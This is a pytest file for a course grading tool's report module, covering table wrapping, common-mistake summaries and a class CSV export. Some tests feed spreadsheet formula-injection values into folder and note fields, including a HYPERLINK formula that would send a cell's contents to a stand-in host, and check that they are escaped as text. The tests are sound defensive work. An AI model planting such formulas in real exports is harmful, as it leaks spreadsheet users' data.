"""The grade report's table stays readable in a terminal."""

import csv

from course_lib.grading.report import class_table, common_mistakes, format_table, write_class_csv
from course_lib.grading.result import FAILED, PASSED, ExerciseResult
from course_lib.grading.runner import GradeReport


def test_table_wraps_long_messages():
    table = format_table([ExerciseResult("ex03_1", FAILED, "word " * 40)])
    lines = table.splitlines()
    assert len(lines) > 2 and all(len(line) <= 100 for line in lines)


def test_table_shows_code_without_backticks():
    table = format_table([ExerciseResult("ex02_1", FAILED, "`format_record` is not defined.")])
    assert table.splitlines()[1].endswith("failed  format_record is not defined.")


def test_a_folder_named_like_a_formula_stays_text_in_the_class_csv(tmp_path):
    link = '=HYPERLINK("x.example?"&A1,"me")'
    report = GradeReport(f"class/{link}", [ExerciseResult("ex02_1", PASSED, "")])
    write_class_csv([report], {"class/@SUM(1)": "No notebooks"}, tmp_path / "class.csv")
    rows = list(csv.reader((tmp_path / "class.csv").open(encoding="utf-8-sig")))
    assert rows[1][:2] == [f"'{link}", f"class/{link}"] and rows[1][5] == "passed"
    assert rows[2][:2] == ["'@SUM(1)", "class/@SUM(1)"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_class_csv_notes_what_was_said_of_each_learner_as_text(tmp_path):
    unreadable = "=1+1.ipynb: it is not a readable notebook."  # a notebook the learner named
    report = GradeReport("class/dave", [ExerciseResult("ex02_1", "missing", "no cell")],
                         notes=[unreadable, "ex03_1 is in 2 notebooks."])
    write_class_csv([report], {}, tmp_path / "class.csv")
    rows = list(csv.reader((tmp_path / "class.csv").open(encoding="utf-8-sig")))
    assert rows[1][4] == f"'{unreadable} ex03_1 is in 2 notebooks." and rows[1][5] == "missing"


def test_the_class_csv_starts_with_a_byte_order_mark_so_excel_reads_utf8(tmp_path):
    write_class_csv([GradeReport("class/Zoë", [ExerciseResult("ex02_1", PASSED)])], {},
                    tmp_path / "class.csv")
    data = (tmp_path / "class.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbflearner,") and "Zoë".encode() in data


def test_a_class_table_names_the_mistake_most_learners_made_on_each_exercise():
    told = ["labels[3] should be -100 (a prompt token)", "your loss is 0.25",
            "labels[12] should be -100 (a prompt token)", "x" * 300]
    reports = [GradeReport(f"class/learner{k}", [
        ExerciseResult("ex02_1", PASSED, ""),
        ExerciseResult("ex03_1", FAILED, told[k]),
        ExerciseResult("ex03_2", PASSED if k else "not implemented", "replace the raise line")])
        for k in range(4)]
    lines = class_table(reports, {}).split("the mistake most learners who got it wrong made, "
                                             "by exercise:\n")[1].splitlines()
    assert lines == [  # ex02_1, which everyone passed, has none; ex03_2 was not begun
        "ex03_1  2 of 4 who got it wrong: failed, labels[3] should be -100 (a prompt token)"]
    long = common_mistakes([GradeReport("class/zoe", [ExerciseResult(
        "ex03_1", FAILED, "labels[14] is -100 but it is the EOS token for prompt '### "
        "Instruction: add 3 and 4'; the model must learn to stop, so keep its label.")])])
    assert len(long) == 2 and all(len(line) <= 100 for line in long)  # wrapped, not cut
    assert long[1] == ("        Instruction: add 3 and 4'; the model must learn to stop, so keep "
                       "its label.")


def test_of_mistakes_made_as_often_the_checks_verdict_is_named_not_a_syntax_error():
    told = {"carol": "the ex03_2 cell has a syntax error on line 3: invalid syntax",
            "peggy": "you did not shift: labels[t] scores logits[t - 1]"}
    reports = [GradeReport(f"class/{name}", [ExerciseResult("ex03_2", FAILED, message)])
               for name, message in told.items()]
    assert common_mistakes(reports) == [  # two learners, two mistakes: not 'most made'
        "ex03_2  2 who got it wrong, each differently; one: failed, you did not shift: "
        "labels[t] scores", "        logits[t - 1]"]


def test_learners_who_did_not_start_an_exercise_do_not_hide_the_mistake_others_made():
    said = {"bob": ("not implemented", "replace the raise line"),
            "dave": ("missing", "no cell for it"),
            "erin": ("not implemented", "replace the raise line"),
            "carol": (FAILED, "labels[14] is -100 but it is the EOS token")}
    reports = [GradeReport(f"class/{name}", [ExerciseResult("ex03_1", status, message)])
               for name, (status, message) in said.items()]
    assert common_mistakes(reports) == [
        "ex03_1  1 of 1 who got it wrong: failed, labels[14] is -100 but it is the EOS token"]
    assert common_mistakes(reports[:2]) == []  # nobody tried it: no mistake to go over


def test_each_exercise_counts_passed_wrong_and_not_started_hardest_first():
    statuses = {"ex02_1": [PASSED, PASSED, FAILED], "ex03_1": [FAILED, "timeout", PASSED],
                "ex08_1": ["not implemented", "missing", PASSED]}
    reports = [GradeReport(f"class/l{k}", [ExerciseResult(ex, got[k]) for ex, got in
                                           statuses.items()]) for k in range(3)]
    table = class_table(reports, {"class/erin": "no notebooks"})
    assert table.split("\n\n")[1].splitlines() == [
        "by exercise, hardest first (of 3 learners graded; 1 not graded, above):",
        "exercise  passed  wrong  not started",
        "ex03_1    1       2      0",  # 1 pass of 3 tries: harder than ex02_1's 2 of 3
        "ex02_1    2       1      0",
        "ex08_1    1       0      2"]  # 1 of 1 who tried it
    nobody = [GradeReport(r.folder, [*r.results, ExerciseResult("ex04_1", "missing")])
              for r in reports]
    assert class_table(nobody, {}).split("\n\n")[1].splitlines()[-1] == "ex04_1    0       0      3"
    assert "(of 1 learner graded):" in class_table(reports[:1], {})  # a class of one


def test_learners_of_the_same_name_in_two_groups_are_told_apart_by_their_group():
    # group1/alice and group2/alice read alike in the table ("alice", "alice").
    reports = [GradeReport(f"class/{group}/{name}", [ExerciseResult("ex02_1", PASSED)])
               for group, name in (("group1", "alice"), ("group2", "alice"), ("group2", "bob"))]
    rows = class_table(reports, {}).splitlines()[1:4]
    assert [row.split()[0] for row in rows] == ["group1/alice", "group2/alice", "bob"]
